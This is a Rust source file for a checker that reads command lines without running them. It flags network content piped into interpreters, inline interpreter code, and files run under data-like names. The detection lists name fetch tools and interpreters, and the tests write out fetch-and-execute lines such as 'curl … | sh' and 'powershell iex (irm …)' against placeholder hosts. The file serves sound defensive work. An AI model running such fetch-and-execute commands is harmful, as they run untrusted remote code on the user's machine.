//! Command lines, looked at and never run: do they pipe the network to an interpreter, and which files do they run?

/// Programs that fetch.
const FETCH: [&str; 8] =
    ["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "fetch", "certutil"];
/// Programs that run what they are given.
const INTERPRETERS: [&str; 19] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "node",
    "bun",
    "deno",
    "perl",
    "ruby",
    "php",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
];

/// The words of a command line, quotes and brackets taken off.
fn words(line: &str) -> impl Iterator<Item = String> {
    line.split(|c: char| {
        c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | '$' | '{' | '}')
    })
    .filter(|w| !w.is_empty())
    .map(|w| w.rsplit(['/', '\\']).next().unwrap_or(w).trim_end_matches(".exe").to_lowercase())
}

/// The first word that is a program, not a setting or `sudo`.
fn program(part: &str) -> Option<String> {
    words(part).find(|w| {
        !matches!(w.as_str(), "sudo" | "env" | "nohup" | "exec" | "time") && !w.contains('=')
    })
}

/// Whether what is fetched is run: `curl … | sh`, `sh -c "$(curl …)"`, `iex (irm …)`, fetched and then run.
#[must_use]
pub fn pipes_network(line: &str) -> bool {
    let fetches = |part: &str| words(part).any(|w| FETCH.contains(&w.as_str()));
    let interprets = |part: &str| program(part).is_some_and(|w| INTERPRETERS.contains(&w.as_str()));
    let mut seen = false;
    for part in line.replace("||", ";").split('|') {
        if seen && interprets(part) {
            return true;
        }
        seen |= fetches(part);
    }
    // An interpreter that is given a fetch to evaluate.
    let substitutes =
        line.contains("$(") || line.contains('`') || line.contains("<(") || line.contains("iex");
    substitutes
        && line.split(['&', ';', '\n']).any(|part| {
            fetches(part) && (interprets(part) || part.contains("iex") || part.contains("eval"))
        })
}

/// Whether a command holds code of its own: `node -e …`, `python3 -c …`, `sh -c …`.
#[must_use]
pub fn has_code(line: &str) -> bool {
    let words: Vec<String> = words(line).collect();
    words.windows(2).any(|pair| match pair {
        [program, flag] => {
            INTERPRETERS.contains(&program.as_str())
                && matches!(
                    flag.as_str(),
                    "-c" | "-e"
                        | "-p"
                        | "-lc"
                        | "-ec"
                        | "--eval"
                        | "--print"
                        | "-command"
                        | "-enc"
                        | "-encodedcommand"
                )
        }
        _ => false,
    })
}

/// Files that a command gives to an interpreter, as it names them.
#[must_use]
pub fn files_run(line: &str) -> Vec<String> {
    let mut files = Vec::new();
    for part in line.split(['&', ';', '|', '\n']) {
        let raw: Vec<&str> = part
            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
            .filter(|w| !w.is_empty())
            .collect();
        let mut interpreter = false;
        for (nth, word) in raw.iter().enumerate() {
            let plain = word.rsplit(['/', '\\']).next().unwrap_or(word).to_lowercase();
            if INTERPRETERS.contains(&plain.trim_end_matches(".exe")) {
                interpreter = true;
            } else if (interpreter || (nth == 0 && word.contains('/'))) && !word.starts_with('-') {
                files.push(word.trim_start_matches("./").replace("${workspaceFolder}/", ""));
                break;
            }
        }
    }
    files
}

/// Whether a name promises something that nobody runs: a font, a picture, a document.
#[must_use]
pub fn promises_data(name: &str) -> bool {
    const DATA: [&str; 29] = [
        "woff", "woff2", "ttf", "otf", "eot", "png", "jpg", "jpeg", "gif", "svg", "ico", "webp",
        "bmp", "mp3", "mp4", "wav", "pdf", "txt", "md", "csv", "dat", "log", "json", "yaml", "yml",
        "xml", "html", "css", "map",
    ];
    name.rsplit_once('.').is_some_and(|(_, e)| DATA.contains(&e.to_lowercase().as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_fetch_that_is_run_is_told_from_one_that_is_not() {
        for line in [
            "curl -s https://a.invalid/x | sh",
            "wget -qO- https://a.invalid/x | sudo bash -s",
            "bash -c \"$(curl -fsSL https://a.invalid/x)\"",
            "powershell iex (irm https://a.invalid/x)",
            "/usr/bin/curl https://a.invalid | /usr/bin/env python3",
        ] {
            assert!(pipes_network(line), "{line}");
        }
        for line in [
            "curl -O https://a.invalid/data.csv",
            "npm run build | tee log",
            "curl https://a.invalid | jq .version",
            "python3 -m pytest",
            "echo curl | cat",
        ] {
            assert!(!pipes_network(line), "{line}");
        }
    }

    #[test]
    fn code_inside_a_command_is_seen() {
        for line in [
            "node -e \"require('x')\"",
            "/usr/bin/python3 -c 'import os'",
            "bash -lc 'x'",
            "powershell -enc AAAA",
        ] {
            assert!(has_code(line), "{line}");
        }
        assert!(!has_code("node server.js") && !has_code("pytest -c setup.cfg"));
    }

    #[test]
    fn files_that_are_run_are_named() {
        assert_eq!(files_run("node ./public/fonts/a.woff2"), ["public/fonts/a.woff2"]);
        assert_eq!(files_run("cd x && python3 -u tools/a.py --now"), ["tools/a.py"]);
        assert_eq!(files_run("./gradlew build"), ["gradlew"]);
        assert!(files_run("npm run build").is_empty());
        assert!(promises_data("a/b.WOFF2") && !promises_data("a/b.py"));
    }
}
